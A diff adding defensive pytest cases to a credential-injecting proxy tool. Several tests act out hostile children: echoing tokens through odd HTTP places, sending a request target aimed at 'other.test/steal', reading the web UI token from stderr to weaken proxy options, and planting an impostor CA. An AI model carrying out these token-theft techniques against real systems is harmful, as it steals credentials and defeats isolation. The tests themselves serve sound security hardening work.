@@ -237,6 +237,63 @@ def test_an_http2_api_that_echoes_the_token_hands_back_only_the_placeholder(acme
     assert json.loads(r.out)["authorization"] == f"Bearer {PLACEHOLDER}" and ACME_KEY not in r.out
 
 
+@pytest.mark.parametrize("wrapper", ["a:", "ab:", "abc:"])
+def test_a_placeholder_inside_an_encoding_the_child_chose_is_never_filled(api, x_connected, trusting_env, wrapper):
+    """`Basic b64(a:placeholder)` in the Bearer slot: an echo would be base64 that decodes to the token."""
+    r = run([*api.resolve("api.twitter.com"), "--", *child(f'''
+        import base64, requests
+        sent = "Basic " + base64.b64encode(b"{wrapper}{PLACEHOLDER}").decode()
+        echo = requests.get("https://api.twitter.com/reflect", headers={{"Authorization": sent}}).headers["X-Echo-Authorization"]
+        print(base64.b64decode(echo.split()[1]).decode(errors="replace"))''')], trusting_env)
+    assert r.code == 0, r.err
+    assert TOKEN not in r.out and TOKEN not in api.everything_seen()
+
+
+@pytest.mark.parametrize("where", ["reason", "header-name", "trailer", "transfer-coding", "upgrade"])
+def test_echoes_in_unusual_places_are_scrubbed_or_refused(where, x_connected, trusting_env, test_ca, tmp_path):
+    """A raw server quoting what it got in the reason phrase, a header name, a trailer of a streamed body,
+    a gzip transfer-coding the client asked for with TE, or the bytes after a switch to another protocol."""
+    import threading
+
+    from tests.support.tls import make_leaf
+
+    leaf = make_leaf(test_ca, tmp_path, ["api.twitter.com"], stem="raw")
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(leaf.cert, leaf.key)
+    listener = socket.create_server(("127.0.0.1", 0))
+
+    def serve():
+        import gzip as gz
+
+        conn, _ = listener.accept()
+        with ctx.wrap_socket(conn, server_side=True) as s:
+            head = b""
+            while b"\r\n\r\n" not in head:
+                head += s.recv(65536)
+            auth = next(line.split(b":", 1)[1].strip() for line in head.split(b"\r\n")
+                        if line.lower().startswith(b"authorization:"))
+            replies = {
+                "reason": b"HTTP/1.1 401 " + auth + b"\r\nContent-Length: 0\r\n\r\n",
+                "header-name": b"HTTP/1.1 200 OK\r\nX-" + auth.replace(b" ", b"-") + b": 1\r\nContent-Length: 0\r\n\r\n",
+                "trailer": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n"
+                           b"2\r\nok\r\n0\r\nX-Echo: " + auth + b"\r\n\r\n",
+                "transfer-coding": (lambda body: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
+                                    + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n")(gz.compress(auth)),
+                "upgrade": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: foo\r\nConnection: Upgrade\r\n\r\n" + auth,
+            }
+            s.sendall(replies[where])
+            time.sleep(0.5)
+
+    threading.Thread(target=serve, daemon=True).start()
+    try:
+        r = run(["--resolve", f"api.twitter.com:443:127.0.0.1:{listener.getsockname()[1]}", "--", "sh", "-c",
+                 f'curl -sS -i --raw --tr-encoding -m 10 -H "TE: gzip" -H "Authorization: Bearer $X_ACCESS_TOKEN" '
+                 f'https://api.twitter.com/x; true'], trusting_env, timeout=60)
+    finally:
+        listener.close()
+    assert TOKEN not in r.out + r.err
+
+
 def test_a_websocket_handshake_and_its_messages_hand_back_only_the_placeholder(api, x_connected, trusting_env):
     r = run([*api.resolve("api.twitter.com"), "--", *child(f'''
         import asyncio, os, aiohttp
@@ -422,13 +479,24 @@ def test_a_catastrophic_key_pattern_never_stalls_login(cli, tmp_path):
 
 # -- 10. Paths spelled the way servers read them --------------------------------------------------------------
 
-@pytest.mark.parametrize("path", ["//2/oauth2/token", "/2/oauth2/./token", "/2/x/../oauth2/token", "/2/oauth2/%74oken",
+@pytest.mark.parametrize("path", ["/2/oauth2/./token", "/2/x/../oauth2/token", "/2/oauth2/%74oken",
                                   "/2/oauth2/token;x", "/2/OAuth2/Token", "/2/oauth2/token/"])
 def test_every_spelling_of_the_token_endpoint_stays_without_the_token(api, x_connected, trusting_env, path):
     r = run([*api.resolve("api.twitter.com"), "--", "curl", "-sS", "--path-as-is", "-d", "grant_type=x",
              f"https://api.twitter.com{path}"], trusting_env)
     assert r.code == 0, r.err
     assert "authorization" not in api.seen[0]["headers"]
+
+
+@pytest.mark.parametrize("path", ["//other.test/steal", "https://other.test/steal", "other.test/steal"])
+@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
+def test_a_request_target_that_is_no_plain_path_is_refused(api, x_connected, trusting_env, path, version):
+    """`//host/...`, or an HTTP/2 :path naming a host, may be read as another host by lenient front ends."""
+    command = ["curl", "-sS", version, "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}",
+               "-H", f"Authorization: Bearer {PLACEHOLDER}", "--request-target", path, "https://api.twitter.com/"]
+    r = run([*api.resolve("api.twitter.com"), "--", *command], trusting_env)
+    assert TOKEN not in api.everything_seen()
+    assert r.out in ("400", "421"), r.err  # 421 when mitmproxy reads it as an absolute-form target naming other.test
 
 
 @pytest.mark.parametrize("path, injected", [("/api/v4/user", True), ("/api/../explore", False),
@@ -479,6 +547,54 @@ def test_a_request_edited_in_the_web_ui_to_another_host_leaves_without_the_token
     assert out.strip() == "200", err
     assert [e["sni"] for e in api.seen] == ["other.test"]
     assert TOKEN not in api.everything_seen() and api.seen[0]["headers"]["authorization"] == f"Bearer {PLACEHOLDER}"
+
+
+def test_a_child_that_learns_the_web_ui_token_cannot_loosen_the_proxy(api, x_connected, trusting_env, tmp_path):
+    """authsome's stderr redirected to a file the child can read (its own fd 2) hands it the UI's token;
+    the options that decide trust and routing no longer change once the proxy runs."""
+    log = tmp_path / "run.log"
+    attack = child('''
+        import json, os, re, time, httpx
+        url = re.search(r"web UI at (\\S+)", open(os.readlink("/proc/self/fd/2")).read()).group(1)
+        base, token = url.split("?token=")
+        out = {}
+        with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {token}"}, trust_env=False) as ui:
+            ui.cookies.set("_mitmproxy_xsrf", "x")
+            x = {"X-XSRFToken": "x"}
+            for name, value in [("ssl_insecure", True), ("authsome_resolve", ["api.twitter.com:443:127.0.0.1:9"]),
+                                ("proxyauth", None), ("mode", ["regular@0.0.0.0:0"]), ("web_host", "0.0.0.0")]:
+                out[name] = ui.put("/options", json={name: value}, headers=x).status_code
+            out["reset"] = ui.post("/commands/options.reset", json={"arguments": []}, headers=x).json()
+            out["ssl_insecure_now"] = ui.get("/options").json()["ssl_insecure"]["value"]
+        print(json.dumps(out))''')
+    with log.open("w") as err:
+        proc = subprocess.run([*AUTHSOME, "run", "--ui", "web", *api.resolve("api.twitter.com"), "--", *attack],
+                              env={**os.environ, **trusting_env}, stdout=subprocess.PIPE, stderr=err, text=True, timeout=60)
+    assert proc.returncode == 0, log.read_text()
+    out = json.loads(proc.stdout)
+    assert {out[k] for k in ("ssl_insecure", "authsome_resolve", "proxyauth", "mode", "web_host")} == {400}
+    assert "error" in out["reset"] and out["ssl_insecure_now"] is False
+
+
+def test_the_child_cannot_add_its_own_ca_to_the_proxys_upstream_trust(api, x_connected, trusting_env, test_ca, tmp_path):
+    """mitmproxy reads its upstream bundle at the first handshake, after the child has started."""
+    from tests.support.api import ApiServer
+    from tests.support.tls import make_ca
+
+    impostor_ca = make_ca(tmp_path / "impostor-pki", name="impostor CA")
+    impostor = ApiServer(impostor_ca, tmp_path / "impostor")
+    try:
+        r = run(["--resolve", f"api.twitter.com:443:127.0.0.1:{impostor.port}", "--", *child(f'''
+            import glob, os, subprocess
+            ca = open({str(impostor_ca.cert)!r}).read()
+            for f in glob.glob(os.path.join(os.environ["AUTHSOME_HOME"], "runs", "*", "*.pem")):
+                with open(f, "a") as fh:
+                    fh.write(ca)
+            print(subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{{http_code}}", "https://api.twitter.com/2/users/me"],
+                                 capture_output=True, text=True).stdout)''')], {**trusting_env, "AUTHSOME_HOME": os.environ["AUTHSOME_HOME"]})
+    finally:
+        impostor.close()
+    assert impostor.seen == [] and r.out.strip() == "502", r.err
 
 
 # -- 12. Resources: strangers' idle connections, and large uploads ----------------------------------------------
@@ -588,3 +704,13 @@ def test_the_child_cannot_simply_ask_authsome_for_the_token(x_connected, trustin
             trusting_env)
     assert TOKEN not in r.out + r.err
     assert r.out.split() == ["status=2", "status=2"] and "refused inside `authsome run`" in r.err
+
+
+def test_run_warns_when_a_parent_process_still_holds_the_master_key(master_key, x_connected, trusting_env):
+    """authsome cannot protect its parents: a shell started with the key shows it in /proc/PID/environ."""
+    import shlex
+
+    r = run_cli(["run", "--", "true"], env=trusting_env, wrap=lambda argv: ["sh", "-c", shlex.join(argv) + "; :"])
+    assert r.code == 0, r.err
+    assert "AUTHSOME_MASTER_KEY is also in the environment of process" in r.err and "(sh)" in r.err
+    assert master_key not in r.err
